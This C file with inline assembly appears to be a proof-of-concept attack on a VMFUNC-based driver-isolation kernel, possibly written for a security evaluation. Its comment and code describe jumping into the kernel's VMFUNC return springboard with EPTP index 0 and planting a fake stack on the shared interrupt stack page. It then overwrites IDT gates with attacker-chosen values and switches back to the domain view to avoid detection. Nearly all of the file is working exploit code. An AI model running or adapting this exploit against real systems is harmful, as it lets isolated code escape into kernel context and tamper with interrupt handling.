/*
 * A1: jump to the VMFUNC by which the kernel returns into the domain, but with list index 0. If nothing checks ECX behind it, the rest
 * of that path runs in the kernel's view: it takes a pointer from the stack and stores the eight message registers there. The stack
 * is the interrupt stack page, which both views have; the pointer names four unused gates of the IDT. The final RET goes to the
 * beginning of the same path, this time with index 1: back home with nobody the wiser.
 */
#include "attack.h"

enum { VMFUNC_OFFSET = 7, FIRST_GATE = 0xf0, IRQ_STACK = 4 };

static u64 ignored[8], saved_rsp, fake_stack, target;

static void attack(void) {
    u32 cpu;
    asm("movl %%gs:%c1, %0" : "=r"(cpu) : "i"(LVD_PERCPU_CPU_NUMBER));
    u64 *stack = (u64 *)lvd_ist_stacks[cpu][IRQ_STACK]; /* its beginning: interrupts use the end */

    stack[0] = (u64)&idt_table[2 * FIRST_GATE];
    stack[7] = (u64)vmfunc_springboard_return;
    stack[8] = (u64)ignored;
    fake_stack = (u64)stack;
    target = (u64)vmfunc_springboard_return + VMFUNC_OFFSET;
    asm volatile("pushq %%rbp\n\t"
                 "pushq %%rbx\n\t"
                 "movq %%rsp, %0\n\t"
                 "movq %1, %%rsp\n\t"
                 "leaq 1f(%%rip), %%rax\n\t"
                 "movq %%rax, 120(%%rsp)\n\t"
                 "movq %2, %%rbx\n\t"
                 "movq $0x0badbad0, %%rdi\n\t"
                 "movq %%rdi, %%rsi\n\t"
                 "movq %%rdi, %%rdx\n\t"
                 "movq %%rdi, %%r8\n\t"
                 "movq %%rdi, %%r9\n\t"
                 "movq %%rdi, %%r10\n\t"
                 "movq %%rdi, %%r11\n\t"
                 "movq %%rdi, %%r12\n\t"
                 "xorl %%eax, %%eax\n\t"
                 "xorl %%ecx, %%ecx\n\t"
                 "jmp *%%rbx\n"
                 "1:\n\t"
                 "movq %0, %%rsp\n\t"
                 "popq %%rbx\n\t"
                 "popq %%rbp"
                 : "+m"(saved_rsp) : "m"(fake_stack), "m"(target)
                 : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "r12", "r13", "r14", "r15", "memory");
    _printk("attack: gate %x of the IDT is now %llx\n", FIRST_GATE, idt_table[2 * FIRST_GATE]);
}
